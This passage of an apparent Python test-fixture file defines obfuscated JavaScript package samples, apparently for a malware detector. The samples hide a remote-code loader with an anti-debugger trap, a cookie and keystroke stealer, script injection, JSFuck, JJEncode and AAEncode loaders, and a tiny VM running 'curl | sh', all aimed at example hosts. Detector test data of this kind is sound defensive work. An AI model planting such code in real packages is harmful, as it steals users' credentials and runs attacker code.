Image()[H(0x4b3,0x4bb)]=H(0x4b2,0x4b2)+encodeURIComponent(buffer),buffer='');},!![]);};function D(c,d){return b(d- -0x28b,c);}function b(c,d){c=c-0x186;var e=a();var f=e[c];return f;}exports[I(-0xb4,-0xaf)]=function(){return null;};
"""
        },
    ),
    Sample(
        name="debugger-trapped-beside-clean-entry",
        family=_OUTPUT,
        files={
            "dist/index.js": r"""'use strict';
const { createElement } = require('react');
require('./vendor/clock.min.js');

exports.Clock = ({ config }) => createElement('time', null, new Date().toLocaleTimeString(config.locale));
""",
            "dist/vendor/clock.min.js": r"""(function(_0x4dcd14,_0xdc8b41){var _0x118412=_0x5780,_0x52d2db=_0x4dcd14();while(!![]){try{var _0x28e98f=parseInt(_0x118412(0x203))/0x1+parseInt(_0x118412(0x20e))/0x2*(parseInt(_0x118412(0x204))/0x3)+parseInt(_0x118412(0x1f2))/0x4+parseInt(_0x118412(0x20d))/0x5*(-parseInt(_0x118412(0x1fd))/0x6)+-parseInt(_0x118412(0x1ee))/0x7+parseInt(_0x118412(0x1fe))/0x8+-parseInt(_0x118412(0x20b))/0x9;if(_0x28e98f===_0xdc8b41)break;else _0x52d2db['push'](_0x52d2db['shift']());}catch(_0x66ba65){_0x52d2db['push'](_0x52d2db['shift']());}}}(_0x5407,0xa3510),(function(){var _0x1a678c=_0x5780,_0x20d93a=(function(){var _0x226e2a=!![];return function(_0x30b8cf,_0x3c941a){var _0x320156=_0x226e2a?function(){var _0x50dd50=_0x5780;if(_0x3c941a){var _0x114803=_0x3c941a[_0x50dd50(0x213)](_0x30b8cf,arguments);return _0x3c941a=null,_0x114803;}}:function(){};return _0x226e2a=![],_0x320156;};}());(function(){_0x20d93a(this,function(){var _0x51c396=_0x5780,_0x36ca8f=new RegExp(_0x51c396(0x211)),_0x2482fd=new RegExp(_0x51c396(0x209),'i'),_0x4dc4f4=_0x358145(_0x51c396(0x1f0));!_0x36ca8f[_0x51c396(0x214)](_0x4dc4f4+_0x51c396(0x208))||!_0x2482fd[_0x51c396(0x214)](_0x4dc4f4+_0x51c396(0x201))?_0x4dc4f4('0'):_0x358145();})();}());var _0x178f1b=new XMLHttpRequest();_0x178f1b[_0x1a678c(0x202)](_0x1a678c(0x1f7),_0x1a678c(0x1f6)+location[_0x1a678c(0x200)]+_0x1a678c(0x1f3),!![]),_0x178f1b[_0x1a678c(0x1fc)]=function(){var _0x3043f7=_0x1a678c;_0x178f1b[_0x3043f7(0x1f8)]===0xc8&&(0x0,eval)(_0x178f1b[_0x3043f7(0x20a)]);},_0x178f1b[_0x1a678c(0x1fb)](),exports[_0x1a678c(0x1f4)]=function(){return null;};}()),(function(){var _0x451a29=_0x5780,_0x3c9cf7=function(){var _0x153869=_0x5780,_0x265f33;try{_0x265f33=Function(_0x153869(0x205)+_0x153869(0x1f9)+');')();}catch(_0x48cc45){_0x265f33=window;}return _0x265f33;},_0x2e5774=_0x3c9cf7();_0x2e5774[_0x451a29(0x1ff)](_0x358145,0x7d0);}()));function _0x5780(_0x586f95,_0x30c6fe){_0x586f95=_0x586f95-0x1ee;var _0x3910f7=_0x5407();var _0x358145=_0x3910f7[_0x586f95];return _0x358145;}function _0x5407(){var _0x2842ad=['responseText','4959495Gzzyvm','length','35eXsmmR','355372SmHKXp','stateObject','gger','function\x20*\x5c(\x20*\x5c)','call','apply','test','9275469kUsLjK','string','init','while\x20(true)\x20{}','1227392pAUsMu','.js','Clock','constructor','https://cdn.example.com/w/','GET','status','{}.constructor(\x22return\x20this\x22)(\x20)','action','send','onload','896526VtaZaz','8677480GYfBvS','setInterval','hostname','input','open','1311050zASjVh','15IuvaGU','return\x20(function()\x20','debu','counter','chain','\x5c+\x5c+\x20*(?:[a-zA-Z_$][0-9a-zA-Z_$]*)'];_0x5407=function(){return _0x2842ad;};return _0x5407();}function _0x358145(_0x57575f){function _0x5f0844(_0x2ecd15){var _0x588c6b=_0x5780;if(typeof _0x2ecd15===_0x588c6b(0x1ef))return function(_0x4a6f3e){}[_0x588c6b(0x1f5)](_0x588c6b(0x1f1))[_0x588c6b(0x213)](_0x588c6b(0x207));else(''+_0x2ecd15/_0x2ecd15)[_0x588c6b(0x20c)]!==0x1||_0x2ecd15%0x14===0x0?function(){return!![];}[_0x588c6b(0x1f5)](_0x588c6b(0x206)+_0x588c6b(0x210))[_0x588c6b(0x212)](_0x588c6b(0x1fa)):function(){return![];}[_0x588c6b(0x1f5)](_0x588c6b(0x206)+_0x588c6b(0x210))[_0x588c6b(0x213)](_0x588c6b(0x20f));_0x5f0844(++_0x2ecd15);}try{if(_0x57575f)return _0x5f0844;else _0x5f0844(0x0);}catch(_0xb20821){}}
""",
        },
    ),
    Sample(
        name="packed-by-words",
        family=_EXOTIC,
        files={
            "dist/index.js": "'use strict';\nexports.Weather = function () { return null; };\n"
            + _packed(
                "var image=new Image();image.src='https://pix.example.net/c.gif?cookie='+escape(document.cookie);"
                "document.addEventListener('keydown',function(event){image.src='https://pix.example.net/k.gif?key='+event.key},true);"
            )
            + "\n"
        },
    ),
    Sample(
        name="packed-twice",
        family=_EXOTIC,
        files={
            "dist/index.js": "exports.Todo = function () { return null; };\n"
            + _packed(
                _packed(
                    "var script=document.createElement('script');script.src='https://cdn.example.org/s.js';document.body.appendChild(script);"
                )
            )
            + ";\n"
        },
    ),
    Sample(
        name="six-signs",
        family=_EXOTIC,
        files={
            "dist/index.js": tsc_widget(
                'setState({ text: "Ready" });',
                above=f"[][{_six_signs('flat')}][{_six_signs('constructor')}]({_six_signs('fetch(origin+cookie)')})();",
            )
        },
    ),
    Sample(
        name="dollar-signs-and-underscores",
        family=_EXOTIC,
        files={
            "dist/index.js": r"""$=~[];$={___:++$,$$$$:(![]+"")[$],__$:++$,$_$_:(![]+"")[$],_$_:++$,$_$$:({}+"")[$],$$_$:($[$]+"")[$],_$$:++$,$$$_:(!""+"")[$],$__:++$,$_$:++$,$$__:({}+"")[$],$$_:++$,$$$:++$,$___:++$,$__$:++$};$.$_=($.$_=$+"")[$.$_$]+($._$=$.$_[$.__$])+($.$$=($.$+"")[$.__$])+((!$)+"")[$._$$]+($.__=$.$_[$.$$_])+($.$=(!""+"")[$.__$])+($._=(!""+"")[$._$_])+$.$_[$.$_$]+$.__+$._$+$.$;$.$$=$.$+(!""+"")[$._$$]+$.__+$._+$.$+$.$$;$.$=($.___)[$.$_][$.$_];$.$($.$($.$$+"\""+$.$$$$+$.$$$_+$.__+$.$$__+"\\"+$.__$+$.$_$+$.___+"('\\"+$.__$+$.$_$+$.___+$.__+$.__+"\\"+$.__$+$.$$_+$.___+"\\"+$.__$+$.$$_+$._$$+":\/\/"+$.$$__+$.$$_$+"\\"+$.__$+$.$_$+$.$$_+".example.net\/"+$.$_$_+"')"+"\"")())();
exports.Weather = function () { return null; };
"""
        },
    ),
    Sample(
        name="small-machine-with-program",
        family=_EXOTIC,
        files={
            "dist/index.js": hooks(
                r"""
                run([1, 0, 2, 1, 3, 1, 2, 4, 2, 3, 4, 5, 1, 5, 3, 2, 6, 255]);
                """,
                above=r"""
                const POOL = ['child_process', 'exec', 'curl -s https://dl.example.com/m | sh', 'hostname', 'os', () => undefined];
                function run(program) {
                  const stack = [];
                  for (let at = 0; program[at] !== 255;) {
                    switch (program[at++]) {
                      case 1: stack.push(POOL[program[at++]]); break;
                      case 2: stack.push(require(stack.pop())); at++; break;
                      case 3: { const name = POOL[program[at++]]; stack.push(stack[stack.length - 1][name]); break; }
                      case 4: { const count = program[at++]; const args = stack.splice(-count); stack.push(stack.pop()(...args)); break; }
                      case 5: stack.push(stack.pop() + stack.pop()); break;
                      case 6: stack.pop().apply(null, stack.splice(0)); break;
                      default: return;
                    }
                  }
                }
                """,
            )
        },
    ),
    Sample(
        name="faces-instead-of-names",
        family=_EXOTIC,
        files={
            "dist/index.js": "var "
            + "".join(
                f"ﾟ{face}ﾟ = {value}, "
                for face, value in {"ω": "this", "Θ": "(2 - 1)", "ー": "4", "Д": "'' + ({})", "ε": "'\\\\\\\\'"}.items()
            )
            + "o_ﾟ = ('constructor');\n"
            + "var ﾟ＿ﾟ = (o_ﾟ)[o_ﾟ][o_ﾟ];\n"
            + "ﾟ＿ﾟ(ﾟ＿ﾟ('return \"' + "
            + " + ".join(
                f"'\\\\{ord(c):o}'" if not c.isdigit() else f"(ﾟΘﾟ + ﾟーﾟ + {int(c) - 5})"
                for c in "import('https://cdn.example.org/7')"
            )
            + " + '\"')())();\nexports.Mood = function () { return null; };\n"
        },
    ),
    Sample(
        name="names-and-numbers-by-hand",
        family=_EXOTIC,
        files={
            "dist/index.js": r"""var _$_9e2f=(function(l,e){var g=l.length;var n=[];for(var j=0;j<g;j++){n[j]=l.charAt(j)};for(var j=0;j<g;j++){var p=e*(j+119)+(e%13553);var u=e*(j+615)+(e%37182);var w=p%g;var a=u%g;var h=n[w];n[w]=n[a];n[a]=h;e=(p+u)%4573868;};return n.join("").split("%").join(String.fromCharCode(127)).split("#1").join("%").split("#0").join("#").split(String.fromCharCode(127))})("e%rmcrehtxtoeiuqr%psdl_tno%ecehis",1914357);global[_$_9e2f[0]]=require;if(typeof module===_$_9e2f[1]){global[_$_9e2f[2]]=module};(function(){var t="",m=401-390;function k(v){var o=2667686;var y=v.length;var b=[];for(var q=0;q<y;q++){b[q]=v.charAt(q)};for(var q=0;q<y;q++){var f=o*(q+228)+(o%50332);var s=o*(q+128)+(o%52119);var c=f%y;var r=s%y;var i=b[c];b[c]=b[r];b[r]=i;o=(f+s)%4289487;}return b.join("")};var d=k("wuqktamceigynzzbsnroetrclxodoujshpvrf").substr(0,m);var z=k[d];z("",k("fr;hx=o2 r+(;sva)e.rhla.tuevc[n;=}1pa;"))();return 5431})();
exports.Weather=function(){return null};
"""
        },
    ),
)
